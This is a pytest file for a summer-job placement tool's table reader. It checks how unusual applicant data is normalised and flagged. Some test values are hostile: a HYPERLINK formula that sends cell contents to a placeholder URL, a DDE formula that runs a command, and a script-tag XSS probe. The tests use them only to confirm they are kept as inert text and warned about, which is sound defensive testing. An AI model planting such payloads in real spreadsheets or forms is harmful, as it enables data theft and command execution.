"""Odd but honest inputs by their number in the requirements: normalised, counted, and kept."""

from __future__ import annotations

import unicodedata
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils.datetime import CALENDAR_MAC_1904

from feriejobb.data.instance import Instance
from feriejobb.errors import InputError, InputIssue
from feriejobb.tables.read import read_tables
from feriejobb.tables.validate import validate
from tests.tables import makers
from tests.tables.makers import Make
from tests.tables.small_town import Town, small_model, small_town, write_folder, write_workbook

NUMBER = "personnummer"


def load(source: Path) -> tuple[Instance, list[InputIssue]]:
    """Instance and warnings."""
    return validate(read_tables(source), small_model())


def first_name(instance: Instance, row: int) -> str:
    """The stored first name of the applicant in a row."""
    return instance.contacts[f"a{row - 1}"].first_name


@pytest.mark.parametrize(
    "value", ['=HYPERLINK("http://x/?"&A1)', "=cmd|'/c calc'!A1", "@SUM(1)", "-1+1", "\t=1", "＝1"]
)
def test_01_02_formula_text_is_kept_as_text_with_a_warning(tmp_path: Path, value: str) -> None:
    """Text that a spreadsheet might run stays text and is pointed out."""
    instance, warnings = load(makers.cell("ansokningar", 3, "fornamn", value)(tmp_path))
    assert first_name(instance, 3) == value.strip()
    assert [(w.code, w.row, w.column) for w in warnings] == [("FORMELTEXT", 3, "fornamn")]


@pytest.mark.parametrize("value", ["+46 70-123 45 67", "+46(0)701234567", "-", "070/12 34"])
def test_03_a_phone_number_is_no_formula(tmp_path: Path, value: str) -> None:
    """A leading plus raises no alarm."""
    instance, warnings = load(makers.cell("ansokningar", 3, "telefon", value)(tmp_path))
    assert instance.contacts["a2"].phone == value
    assert warnings == []


def test_04_06_a_number_cell_that_is_whole_is_read_exactly(tmp_path: Path) -> None:
    """A personnummer stored as a number, with or without ``.0``, loses nothing."""
    digits = small_town()["ansokningar"][1][NUMBER]
    for name, make in {
        "tal": makers.book_cell("ansokningar", 3, NUMBER, int(digits)),
        "flyttal": makers.cell("ansokningar", 3, NUMBER, f"{digits}.0"),
        "komma": makers.cell("ansokningar", 3, NUMBER, f"{digits},0"),
    }.items():
        (tmp_path / name).mkdir()
        instance, _ = load(make(tmp_path / name))
        assert instance.contacts["a2"].personal_number == digits


def test_11_invisible_marks_and_line_ends_are_stripped(tmp_path: Path) -> None:
    """A zero-width space and a trailing newline do not make another person."""
    digits = small_town()["ansokningar"][1][NUMBER]
    make = makers.cell("ansokningar", 3, NUMBER, f"\u200b{digits[:8]}\u200b{digits[8:]}\n")
    instance, warnings = load(make(tmp_path))
    assert instance.contacts["a2"].personal_number == digits
    assert [(w.code, w.text) for w in warnings] == [
        ("TECKEN_BORTTAGNA", "Osynliga tecken har tagits bort i så här många celler: 1.")
    ]


def test_09_12_samordningsnummer_and_ten_digits(tmp_path: Path) -> None:
    """Day minus 60, and the century by the reference date."""
    digits = small_town()["ansokningar"][1][NUMBER]
    short = makers.cell("ansokningar", 3, NUMBER, f"{digits[2:8]}-{digits[8:]}")
    assert load(short(tmp_path / "kort"))[0].contacts["a2"].personal_number == digits
    make = makers.cell("ansokningar", 3, NUMBER, "200905800010")
    assert load(make(tmp_path / "samordning"))[0].applicants[1].birth_date == date(2009, 5, 20)


@pytest.mark.parametrize("birth", ["2012-02-29", "2006-12-31", "2011-12-31"])
def test_17_wrong_age_is_no_input_error(tmp_path: Path, birth: str) -> None:
    """Who is too young or too old is kept for the rule to decide."""
    instance, warnings = load(makers.cell("ansokningar", 9, "fodelsedatum", birth)(tmp_path))
    assert instance.applicants[7].birth_date == date.fromisoformat(birth)
    assert warnings == []


def test_21_contact_of_a_protected_row_is_dropped_and_counted(tmp_path: Path) -> None:
    """Name, phone and home of a protected applicant never reach the instance."""

    def expose(rows: Town) -> None:
        rows["ansokningar"][7] |= {"fornamn": "Kanarie", "hemstadsdel": "Farsta"}
        rows["ansokningar"][2] |= {"skyddade_uppgifter": "skyddad_folkbokforing"}

    instance, warnings = load(makers.town(expose)(tmp_path))
    assert instance.contacts.keys() == {"a1", "a2", "a4", "a5", "a6", "a7"}
    assert instance.applicants[2].home is None
    assert instance.applicants[7].home is None
    assert "Kanarie" not in repr(instance)
    assert [(w.code, w.row, w.text.endswith(": 2.")) for w in warnings] == [
        ("KONTAKT_BORTTAGEN", 0, True)
    ]


@pytest.mark.parametrize(
    "header",
    ["arbetsplats ", "\u00a0Arbetsplats\u00a0", "ARBETSPLATS", "\u200barbetsplats"],
)
def test_24_headers_are_matched_after_tidying(tmp_path: Path, header: str) -> None:
    """Blanks, case, invisible marks and decomposed letters do not matter."""

    def change(text: str) -> str:
        text = text.replace("arbetsplats", header, 1)
        return text.replace("forvaltning", unicodedata.normalize("NFD", "Förvaltning"), 1)

    instance, warnings = load(makers.text("platser", change)(tmp_path))
    assert instance.places[0].workplace == "Parklaget"
    assert instance.places[0].employer == "Farsta"
    assert warnings == []


def test_25_an_unknown_column_is_dropped_and_named(tmp_path: Path) -> None:
    """The column's name is logged, its content nowhere."""

    def change(rows: Town) -> None:
        rows["ansokningar"][0]["skola"] = "Hemliga gymnasiet"

    raw = read_tables(makers.town(change)(tmp_path))
    assert [(w.code, w.table, w.row, w.column) for w in raw.warnings] == [
        ("OKÄND_KOLUMN", "ansokningar.csv", 1, "skola")
    ]
    assert all("skola" not in row.values for row in raw.tables["ansokningar"].rows)
    assert load(tmp_path)[1] == list(raw.warnings)


def test_25_a_column_without_header_is_named_by_letter(tmp_path: Path) -> None:
    """Cells beyond the headers are pointed out by position."""

    def change(book: openpyxl.Workbook) -> None:
        book["handledare"]["F2"] = "anteckning"

    raw = read_tables(makers.workbook(change)(tmp_path))
    assert [(w.code, w.table, w.column) for w in raw.warnings] == [
        ("OKÄND_KOLUMN", "handledare", "F")
    ]


def test_26_blank_rows_are_skipped_and_positions_kept(tmp_path: Path) -> None:
    """Blank rows in the middle and at the end are counted; later rows keep their numbers."""

    def change(text: str) -> str:
        lines = text.splitlines()
        return "\n".join([*lines[:2], ";;;;;;;;;", *lines[2:], "", ";;;;;;;;;", ""])

    instance, warnings = load(makers.text("platser", change)(tmp_path))
    assert [place.row for place in instance.places] == [2, 4, 5, 6]
    assert [(w.code, w.text) for w in warnings] == [
        ("TOMMA_RADER", "Tomma rader har hoppats över: 3.")
    ]


def test_27_hidden_rows_may_be_asked_for(tmp_path: Path) -> None:
    """With the express option hidden rows are read like others."""

    def hide(book: openpyxl.Workbook) -> None:
        book["platser"].row_dimensions[3].hidden = True

    path = makers.workbook(hide)(tmp_path)
    assert len(read_tables(path, show_hidden=True).tables["platser"].rows) == 4


def test_27_other_sheets_are_left_alone_and_named(tmp_path: Path) -> None:
    """Sheets are taken by name only."""
    path = makers.workbook(lambda book: book.create_sheet("Anteckningar"))(tmp_path)
    raw = read_tables(path)
    assert [(w.code, w.table) for w in raw.warnings] == [("OKÄND_TABELL", "Anteckningar")]


@pytest.mark.parametrize("name", ["NA", "Null", "None", "Nan", "True", "1E5", "007"])
def test_29_names_that_look_like_something_else_are_kept(tmp_path: Path, name: str) -> None:
    """No name is taken for a missing value, a number or a truth value."""
    make = makers.cell("ansokningar", 3, "fornamn", name)
    assert first_name(load(make(tmp_path))[0], 3) == name


def test_30_a_byte_order_mark_is_allowed_and_another_encoding_must_be_asked_for(
    tmp_path: Path,
) -> None:
    """UTF-8 with mark reads as without; Windows-1252 reads when named."""
    expected = load(write_folder(tmp_path / "utan"))[0]
    assert load(makers.text("platser", str, "utf-8-sig")(tmp_path / "med"))[0] == expected

    folder = write_folder(tmp_path / "latin")
    for path in folder.glob("*.csv"):
        path.write_bytes(path.read_text(encoding="utf-8").encode("cp1252"))
    assert validate(read_tables(folder, encoding="cp1252"), small_model())[0] == expected
    with pytest.raises(InputError):
        read_tables(folder, encoding="okänd")


@pytest.mark.parametrize("epoch", [None, CALENDAR_MAC_1904])
def test_34_real_date_cells_read_right(tmp_path: Path, epoch: datetime | None) -> None:
    """A date cell is its date, also in a workbook that counts from 1904."""

    def change(book: openpyxl.Workbook) -> None:
        if epoch is not None:
            book.epoch = epoch
        column = [c.value for c in book["ansokningar"][1]].index("fodelsedatum") + 1
        book["ansokningar"].cell(9, column, date(2009, 11, 11))

    instance, _ = load(makers.workbook(change)(tmp_path))
    assert instance.applicants[7].birth_date == date(2009, 11, 11)


@pytest.mark.parametrize(
    "text", ["20091111", "2009-11-11", "2009-11-11 00:00:00", "2009-11-11T00:00:00.000"]
)
def test_34_a_date_may_be_written_in_several_forms(tmp_path: Path, text: str) -> None:
    """ISO with or without dashes, and midnight as databases write it, in CSV and as a number."""
    make = makers.cell("ansokningar", 9, "fodelsedatum", text)
    assert load(make(tmp_path / "csv"))[0].applicants[7].birth_date == date(2009, 11, 11)
    if text.isdigit():
        (tmp_path / "xlsx").mkdir()
        number = makers.book_cell("ansokningar", 9, "fodelsedatum", int(text))
        found = load(number(tmp_path / "xlsx"))[0].applicants[7].birth_date
        assert found == date(2009, 11, 11)


def test_35_control_and_direction_marks_are_stripped(tmp_path: Path) -> None:
    """What can't be seen is not stored; a tab or line end becomes a blank."""
    name = "An\x07na\u202e\u2066 Ma\x00ria\nLo"
    make = makers.cell("ansokningar", 3, "fornamn", name)
    assert first_name(load(make(tmp_path))[0], 3) == "Anna Maria Lo"


@pytest.mark.parametrize(
    "name",
    ["O'Brien", "Anna-Lena", "Nguyễn", "Ö", "x" * 80, "Åsa 🦊", "<script>alert(1)</script>"],
)
def test_36_unusual_names_are_kept(tmp_path: Path, name: str) -> None:
    """A name is whatever the person is called."""
    for kind, make in {
        "csv": makers.cell("ansokningar", 3, "fornamn", name),
        "xlsx": makers.book_cell("ansokningar", 3, "fornamn", name),
    }.items():
        (tmp_path / kind).mkdir()
        assert first_name(load(make(tmp_path / kind))[0], 3) == name


def test_40_last_years_file_is_pointed_out(tmp_path: Path) -> None:
    """A file whose persons are mostly of other birth years gives a warning."""
    source = write_folder(tmp_path)
    model = small_model(eligibility={"birth_years": [2012], "min_age": 15})
    assert [w.code for w in validate(read_tables(source), model)[1]] == ["ÅRGÅNG"]


def decomposed() -> Make:
    """The whole town in decomposed letters."""
    return makers.text("platser", lambda t: unicodedata.normalize("NFD", t))


def test_decomposed_letters_mean_the_same(tmp_path: Path) -> None:
    """Å written as A and ring is Å."""
    expected = load(write_folder(tmp_path / "nfc"))[0]
    assert load(decomposed()(tmp_path / "nfd"))[0] == expected


def test_a_workbook_saved_by_another_program_reads_the_same(tmp_path: Path) -> None:
    """Inline strings, missing cell references and number cells do not matter."""
    expected = load(write_workbook(tmp_path / "a.xlsx"))[0]
    assert load(makers.workbook(lambda book: None)(tmp_path))[0] == expected
